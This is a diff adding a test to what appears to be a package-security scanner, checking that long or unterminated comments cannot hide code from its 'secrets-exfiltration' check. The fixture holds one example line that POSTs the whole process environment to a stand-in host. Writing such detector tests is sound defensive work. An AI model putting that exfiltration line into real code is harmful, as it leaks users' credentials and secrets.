@@ -3,6 +3,7 @@ import { execFileSync } from 'node:child_process'
 import t from 'tap'
 import { inspect } from '../../src/inspection/inspect.ts'
 import { readAsOf } from '../../src/model/artifact.ts'
+import { LIMITS } from '../../src/analysis/limits.ts'
 import { sha256 } from '../../src/model/digest.ts'
 import type { ContentFacts } from '../../src/model/fact.ts'
 import { readingOf } from './python-reading.ts'
@@ -103,3 +104,23 @@ t.test(
     }
   },
 )
+
+t.test('remarks do not count as code, up to a limit, and cost little to count', async (t) => {
+  const main = { 'package.json': JSON.stringify({ name: 'sample', main: 'index.js' }) }
+  const sends = `fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(process.env) })\n`
+  const found = async (text: string): Promise<readonly string[]> =>
+    (await inspected('npm', { ...main, 'index.js': text })).findings.map(({ check }) => check)
+  const code = `x('${'y'.repeat(90)}')\n`
+  const most = code.repeat(Math.floor((LIMITS.otherFileBytes - sends.length) / code.length))
+  for (const remark of ['// ', '/* */ ', `/*${'z'.repeat(1000)}*/\n`])
+    t.ok((await found(`${remark.repeat(2000)}\n${sends}`)).includes('secrets-exfiltration'), remark.slice(0, 6))
+  t.ok(
+    (await found(`/*${'z'.repeat(LIMITS.remarkBytes - 4)}*/${sends}`)).includes('secrets-exfiltration'),
+    'at the limit',
+  )
+  t.same(await found(most + code.repeat(2) + sends), ['not-examined'], 'code beyond the limit is told')
+  t.same(await found(`/*${'z'.repeat(LIMITS.remarkBytes)}*/${most}${code.repeat(2)}`), ['not-examined'], 'and remarks')
+  const start = performance.now()
+  await found('/*'.repeat(1_400_000))
+  t.ok(performance.now() - start < 20_000, 'remarks that do not end')
+})
